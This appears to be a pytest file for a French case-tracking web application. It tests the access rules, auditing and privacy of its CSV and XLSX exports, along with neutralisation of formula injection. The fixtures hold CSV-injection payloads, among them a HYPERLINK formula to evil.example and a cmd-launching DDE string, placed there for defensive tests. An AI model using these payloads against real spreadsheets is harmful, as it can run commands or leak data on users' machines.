"""Exports of the case list and of the figures: what they hold, what they never hold,
formula injection, who may download them, and the audit trail."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date, datetime
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext, override_settings
from django.utils import timezone
from django_tenants.utils import schema_context

from tenants.models import Role, User
from tests.conftest import World, host_client, signed_in
from tracking.cases.selectors import CaseFilters, case_list
from tracking.figures import exports
from tracking.figures.views import case_filters_from
from tracking.models import (
    AuditLog,
    Case,
    CaseContact,
    Contact,
    Interaction,
    Partner,
    PicklistItem,
)
from tracking.permissions import ROLE_CAPABILITIES, Actor, Capability

pytestmark = pytest.mark.django_db

ROLES = ["admin", "coordinator", "psychologist", "listener", "volunteer", "read_only"]
EXPORTERS = {"admin", "coordinator"}
FORMATS = ["csv", "xlsx"]
CANARIES = ["PRENOM-CANARI", "RESUME-CANARI", "NOTE-CLINIQUE-CANARI", "CONTACT-CANARI"]
HYPERLINK = '=HYPERLINK("http://evil.example/?x=1","Cliquez")'


@pytest.fixture(autouse=True)
def _figures_urls() -> Iterator[None]:
    with override_settings(ROOT_URLCONF="tests.tracking.figures.urls_for_figures"):
        yield


def item(kind: str, code: str) -> PicklistItem:
    return PicklistItem.objects.get(kind=kind, code=code)


def make_case(code: str, *, staff: tuple[User, ...] = (), **fields: Any) -> Case:
    fields.setdefault("first_name", "Inès")  # an empty encrypted name would be NULL
    fields.setdefault("opened_on", date(2024, 10, 1))
    case = Case.objects.create(code=code, **fields)
    case.assigned_staff.set(staff)
    return case


@pytest.fixture
def acme_cases(world: World) -> dict[str, Case]:
    """A case with canaries in every field the exports must leave out, a case whose
    free text tries formula injection, and a case followed by the listener."""
    admin, listener = world.acme_members["admin"], world.acme_members["listener"]
    with schema_context("a_acme"):
        school = Partner.objects.create(name="Collège des Tilleuls",
                                        kind=item("partner_type", "middle_school"))
        canary = make_case(
            "X-CANARY", first_name="PRENOM-CANARI", birth_year=2011, gender="girl",
            town="Montreuil", department="93", programme=item("programme", "individual"),
            detection_source=item("detection_source", "school"), referring_partner=school,
        )
        canary.situation_types.set([item("situation_type", "bullying"),
                                    item("situation_type", "cyber_violence")])
        talk = Interaction.objects.create(
            kind=item("interaction_kind", "interview"), channel="phone",
            occurred_at=datetime(2024, 10, 2, 10, tzinfo=ZoneInfo("Europe/Paris")),
            staff=admin, created_by=admin, summary="RESUME-CANARI",
            clinical_note="NOTE-CLINIQUE-CANARI",
        )
        talk.cases.set([canary])
        parent = Contact.objects.create(kind="parent", first_name="CONTACT-CANARI",
                                        last_name="CONTACT-CANARI", phone="0600000000",
                                        email="canari@example.org")
        CaseContact.objects.create(case=canary, contact=parent, relationship="mère")

        evil_partner = Partner.objects.create(name="@SUM(1+1)*cmd|' /C calc'!A0",
                                              kind=item("partner_type", "other"))
        evil_programme = PicklistItem.objects.create(kind="programme", code="evil",
                                                     label="+1+1")
        evil = make_case("X-EVIL", town=HYPERLINK, department="-1", birth_year=2012,
                         referring_partner=evil_partner, programme=evil_programme)
        listeners = make_case("X-LISTENER", staff=(listener,), birth_year=2009,
                              town="Bobigny")
        closed = make_case("X-CLOSED", closed_on=date(2024, 12, 1), birth_year=2010,
                           programme=item("programme", "individual"))
    return {"canary": canary, "evil": evil, "listener": listeners, "closed": closed}


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def xlsx_rows(content: bytes) -> list[list[Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)
            if any(cell is not None for cell in row)]


def rows_of(response: Any, fmt: str) -> list[list[Any]]:
    content = response.content
    return csv_rows(content) if fmt == "csv" else xlsx_rows(content)


def as_text(rows: list[list[Any]]) -> str:
    return "\n".join(";".join("" if c is None else str(c) for c in row) for row in rows)


# --- formula injection -------------------------------------------------------------------


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"),
    ("+33 6 00", "'+33 6 00"),
    ("-2", "'-2"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("  =1", "'  =1"),
    ("\x01=1", "'=1"),  # a control character cannot hide the formula
    ("Montreuil", "Montreuil"),
    ("Saint-Denis", "Saint-Denis"),
    ("", ""),
    (3, 3),
    (None, None),
    (date(2024, 9, 1), date(2024, 9, 1)),
])
def test_neutralise(value: Any, expected: Any) -> None:
    assert exports.neutralise(value) == expected


@pytest.mark.parametrize("fmt", FORMATS)
def test_formula_cells_come_out_quoted(world: World, acme_cases: dict[str, Case],
                                       fmt: str) -> None:
    client = signed_in(world.acme_members["admin"], world.acme)
    response = client.get(f"/dossiers/export.{fmt}", {"status": "all"})
    assert response.status_code == 200
    rows = rows_of(response, fmt)
    evil = next(row for row in rows if row[0] == "X-EVIL")
    assert evil[5] == "'" + HYPERLINK
    assert evil[6] == "'-1"
    assert evil[7] == "'+1+1"
    assert evil[9] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row
                    if cell.data_type == "f"]
        assert formulas == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_figures_export_quotes_formulas_too(world: World, acme_cases: dict[str, Case],
                                            fmt: str) -> None:
    client = signed_in(world.acme_members["admin"], world.acme)
    response = client.get(f"/chiffres/export.{fmt}", {"period": "school", "year": "2024"})
    assert response.status_code == 200
    rows = rows_of(response, fmt)
    labels = [row[0] for row in rows if row]
    assert "'" + HYPERLINK in labels
    assert "'+1+1" in labels
    assert HYPERLINK not in labels


# --- what the files hold -----------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_case_export_holds_the_columns_and_no_names_or_notes(
    world: World, acme_cases: dict[str, Case], fmt: str,
) -> None:
    client = signed_in(world.acme_members["admin"], world.acme)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(f"/dossiers/export.{fmt}", {"status": "all", "sort": "code"})
    assert response.status_code == 200
    rows = rows_of(response, fmt)
    assert rows[0] == ["Numéro", "Ouvert le", "Clôturé le", "Tranche d'âge (à ce jour)",
                       "Genre", "Commune", "Département", "Programme",
                       "Source de détection", "Partenaire orienteur", "Types de situation"]
    assert [row[0] for row in rows[1:]] == ["X-CANARY", "X-CLOSED", "X-EVIL", "X-LISTENER"]
    canary = rows[1]
    opened: Any = "2024-10-01" if fmt == "csv" else datetime(2024, 10, 1)
    assert canary[1] == opened
    assert canary[2] in ("", None)
    assert canary[4:] == ["Fille", "Montreuil", "93", "Accompagnement individuel",
                          "Établissement scolaire", "Collège des Tilleuls",
                          "Harcèlement, Cyberviolence"]
    text = as_text(rows)
    for canary_value in CANARIES:
        assert canary_value not in text
    # The first names are not even read from the database.
    case_queries = [q["sql"] for q in queries.captured_queries if "tracking_case" in q["sql"]]
    assert case_queries
    assert not [sql for sql in case_queries if '"tracking_case"."first_name"' in sql]


@pytest.mark.parametrize("fmt", FORMATS)
def test_figures_export_holds_no_names_codes_or_notes(
    world: World, acme_cases: dict[str, Case], fmt: str,
) -> None:
    client = signed_in(world.acme_members["coordinator"], world.acme)
    response = client.get(f"/chiffres/export.{fmt}", {"period": "school", "year": "2024"})
    assert response.status_code == 200
    text = as_text(rows_of(response, fmt))
    assert "Jeunes accompagnés sur la période" in text
    for secret in [*CANARIES, "X-CANARY", "X-EVIL", "X-LISTENER"]:
        assert secret not in text


def test_csv_is_french_excel_ready(world: World, acme_cases: dict[str, Case]) -> None:
    client = signed_in(world.acme_members["admin"], world.acme)
    response = client.get("/dossiers/export.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="dossiers-acme-{today}.csv"')
    assert response["Cache-Control"] == "no-store, private"
    first_line = response.content.decode("utf-8-sig").split("\r\n", 1)[0]
    assert first_line.startswith("Numéro;Ouvert le;Clôturé le;")


def test_xlsx_download_headers(world: World, acme_cases: dict[str, Case]) -> None:
    client = signed_in(world.acme_members["coordinator"], world.acme)
    response = client.get("/chiffres/export.xlsx", {"period": "calendar", "year": "2024"})
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="chiffres-acme-2024.xlsx"'
    response = client.get("/chiffres/export.csv", {"period": "school", "year": "2024"})
    assert response["Content-Disposition"] == (
        'attachment; filename="chiffres-acme-2024-2025.csv"')


# --- filters -----------------------------------------------------------------------------


def test_case_export_applies_the_case_list_filters(world: World,
                                                   acme_cases: dict[str, Case]) -> None:
    client = signed_in(world.acme_members["admin"], world.acme)
    with schema_context("a_acme"):
        individual = item("programme", "individual").pk

    def codes(params: dict[str, str]) -> list[str]:
        response = client.get("/dossiers/export.csv", params)
        assert response.status_code == 200
        return sorted(row[0] for row in csv_rows(response.content)[1:])

    assert codes({}) == ["X-CANARY", "X-EVIL", "X-LISTENER"]  # open cases by default
    assert codes({"status": "all", "programme": str(individual)}) == ["X-CANARY", "X-CLOSED"]
    assert codes({"status": "closed"}) == ["X-CLOSED"]
    assert codes({"q": "bobigny"}) == ["X-LISTENER"]
    assert codes({"status": "all", "opened_from": "2025-01-01"}) == []
    # Values that cannot be read are ignored, never an error.
    assert codes({"status": "everything", "programme": "abc", "partner": "-4",
                  "detection_source": "99999999999999999999", "age_bracket": "old",
                  "opened_from": "2024-13-45", "opened_to": "hier", "sort": "drop table",
                  "mine": "peut-être"}) == ["X-CANARY", "X-EVIL", "X-LISTENER"]


def test_case_filters_from_reads_good_values_and_drops_bad_ones() -> None:
    good = case_filters_from({
        "q": "  Montreuil ", "status": "closed", "mine": "1", "programme": "3",
        "detection_source": "4", "partner": "5", "age_bracket": "11-14",
        "opened_from": "2024-09-01", "opened_to": "2025-08-31", "sort": "town",
    })
    assert good == CaseFilters(q="Montreuil", status="closed", mine=True, programme=3,
                               detection_source=4, partner=5, age_bracket="11-14",
                               opened_from=date(2024, 9, 1), opened_to=date(2025, 8, 31),
                               sort="town")
    bad = case_filters_from({"status": "x", "programme": "0", "partner": "1.5",
                             "age_bracket": "11-15", "opened_to": "31/08/2025", "sort": "?"})
    assert bad == CaseFilters()


# --- who may download --------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("role", ROLES)
def test_case_export_needs_the_export_right(world: World, acme_cases: dict[str, Case],
                                            role: str, fmt: str) -> None:
    response = signed_in(world.acme_members[role], world.acme).get(f"/dossiers/export.{fmt}")
    assert response.status_code == (200 if role in EXPORTERS else 404)
    if role not in EXPORTERS:
        assert b"X-CANARY" not in response.content


@pytest.mark.parametrize("url", ["/dossiers/export.csv", "/dossiers/export.xlsx",
                                 "/chiffres/export.csv", "/chiffres/export.xlsx"])
def test_member_of_another_association_gets_403(world: World, acme_cases: dict[str, Case],
                                                url: str) -> None:
    response = signed_in(world.beta_admin, world.acme).get(url)
    assert response.status_code == 403
    assert b"X-CANARY" not in response.content


def test_anonymous_is_sent_to_sign_in(world: World) -> None:
    response = host_client(world.acme).get("/dossiers/export.csv")
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_listener_export_holds_only_their_cases(world: World,
                                                acme_cases: dict[str, Case]) -> None:
    """The writer takes `selectors.case_list`, so an actor who sees only the cases they
    follow exports only those."""
    listener = Actor(user=world.acme_members["listener"], role=Role.LISTENER)
    with schema_context("a_acme"):
        cases = case_list(actor=listener, filters=CaseFilters(status="all"))
        rows = csv_rows(exports.cases_csv(cases, today=date(2025, 1, 1)).content)
    assert [row[0] for row in rows[1:]] == ["X-LISTENER"]


def test_listener_given_the_export_right_downloads_only_their_cases(
    world: World, acme_cases: dict[str, Case], monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Listeners have no export right by default (404 above); were an association to
    grant it, the download would still hold only the cases they follow."""
    monkeypatch.setitem(ROLE_CAPABILITIES, Role.LISTENER,
                        ROLE_CAPABILITIES[Role.LISTENER] | {Capability.EXPORT})
    client = signed_in(world.acme_members["listener"], world.acme)
    for fmt in FORMATS:
        response = client.get(f"/dossiers/export.{fmt}", {"status": "all"})
        assert response.status_code == 200
        assert [row[0] for row in rows_of(response, fmt)[1:]] == ["X-LISTENER"]


# --- audit -------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_case_export_is_audited(world: World, acme_cases: dict[str, Case], fmt: str) -> None:
    admin = world.acme_members["admin"]
    client = signed_in(admin, world.acme)
    response = client.get(f"/dossiers/export.{fmt}", {"status": "all", "q": "X-"})
    assert response.status_code == 200
    with schema_context("a_acme"):
        entries = list(AuditLog.objects.filter(action="export.cases"))
    assert len(entries) == 1
    entry = entries[0]
    assert entry.actor_id == admin.pk
    assert entry.ip_address == "127.0.0.1"
    assert entry.detail["format"] == fmt
    assert entry.detail["rows"] == 4
    assert entry.detail["filters"]["status"] == "all"
    # A search may name someone: the audit log keeps that there was one, not its text.
    assert entry.detail["filters"]["q"] == "…"
    with schema_context("a_beta"):
        assert not AuditLog.objects.filter(action="export.cases").exists()


def test_figures_export_is_audited(world: World) -> None:
    user = world.acme_members["read_only"]
    client = signed_in(user, world.acme)
    assert client.get("/chiffres/export.csv", {"period": "calendar",
                                               "year": "2024"}).status_code == 200
    with schema_context("a_acme"):
        entry = AuditLog.objects.get(action="export.figures")
    assert entry.actor_id == user.pk
    assert entry.detail == {"format": "csv", "period_kind": "calendar", "year": 2024}


def test_refused_export_is_not_audited(world: World, acme_cases: dict[str, Case]) -> None:
    client = signed_in(world.acme_members["volunteer"], world.acme)
    assert client.get("/dossiers/export.csv").status_code == 404
    with schema_context("a_acme"):
        assert not AuditLog.objects.filter(action__startswith="export.").exists()
